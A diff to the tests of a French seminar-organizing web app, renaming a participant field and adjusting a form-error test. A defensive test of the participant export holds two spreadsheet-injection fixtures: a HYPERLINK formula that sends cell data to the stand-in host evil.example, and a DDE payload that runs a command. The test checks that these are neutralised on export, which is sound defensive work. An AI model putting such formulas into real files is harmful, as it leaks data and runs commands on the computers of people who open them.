@@ -115,7 +115,7 @@ def test_create_a_seminar_from_the_form(organizer_client):
 def test_seminar_form_errors_are_shown_in_french(organizer_client):
     response = organizer_client.post(
         reverse("organizer:seminar_create"),
-        {"title": "", "city_code": "ABCDE", "start_date": "demain"},
+        {"title": "", "city_code": "99999", "start_date": "demain"},
     )
     content = page(response)
     assert response.status_code == 200
@@ -385,14 +385,14 @@ def test_participant_export_never_hands_a_participants_text_over_as_a_formula(
 ):
     attack = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
     dde = f"{prefix}cmd|' /C calc'!A0"
-    ParticipantFactory(seminar=seminar, function=attack, dietary_needs=dde, max_km=30)
+    ParticipantFactory(seminar=seminar, function=attack, accessibility_needs=dde, max_km=30)
     url = reverse("organizer:participant_export", args=[seminar.pk, "csv"])
     [row] = csv_cells(organizer_client.get(url).content)
-    assert (row["Fonction"], row["Régime alimentaire"]) == (f"'{attack}", f"'{dde}")
+    assert (row["Fonction"], row["Besoins d'accessibilité"]) == (f"'{attack}", f"'{dde}")
     assert row["Distance max (km)"] == "30"
     url = reverse("organizer:participant_export", args=[seminar.pk, "xlsx"])
     [row] = sheet_cells(organizer_client.get(url).content)
-    assert (row["Fonction"], row["Régime alimentaire"]) == (attack, dde)
+    assert (row["Fonction"], row["Besoins d'accessibilité"]) == (attack, dde)
     assert row["Distance max (km)"] == 30
 
 
